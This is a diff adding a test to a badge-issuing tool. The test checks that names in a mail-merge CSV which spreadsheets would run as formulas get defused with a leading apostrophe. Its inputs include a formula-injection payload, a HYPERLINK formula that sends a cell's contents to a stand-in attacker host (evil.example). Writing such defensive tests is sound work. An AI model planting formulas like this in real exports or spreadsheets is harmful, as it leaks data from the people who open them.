@@ -21,6 +21,7 @@ from cryptography.x509.oid import NameOID
 
 from badgepress.baking import unbake
 from badgepress.cli import main
+from badgepress.notify import spreadsheet_cell
 from tests.support import build_site
 
 PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
@@ -246,3 +247,26 @@ def test_no_email_reaches_the_repository_or_the_site(site, tmp_path, capsys):
                 text = path.read_bytes().decode("utf-8", "replace").lower()
                 assert not any(e.lower() in text for e in emails), path
     assert all(e in merge.read_text() for e in emails)
+
+
+def test_mail_merge_cells_that_a_spreadsheet_would_run_are_defused(site, tmp_path, capsys):
+    names = ['=HYPERLINK("https://evil.example/?"&A2,"Open")', "+1+1", "-2+3", "@SUM(A1)"]
+    roster = tmp_path / "roster.csv"
+    with roster.open("w", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["email", "name", "credential"])
+        for number, name in enumerate(names):
+            writer.writerow([f"p{number}@example.net", name, "affective-language"])
+    merge = tmp_path / "merge.csv"
+    assert (
+        main(["issue", "--csv", str(roster), "--mail-merge", str(merge), "--source", str(site)])
+        == 0
+    )
+    rows = list(csv.DictReader(merge.open(newline="")))
+    assert sorted(r["name"] for r in rows) == sorted("'" + name for name in names)
+    assert all(
+        not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values()
+    )
+    assert all(line.startswith('"') for line in merge.read_text().splitlines())
+    # Rosters strip names; a tab or carriage return that starts a cell is defused too.
+    assert [spreadsheet_cell(text) for text in ("\tx", "\rx", "Ann")] == ["'\tx", "'\rx", "Ann"]
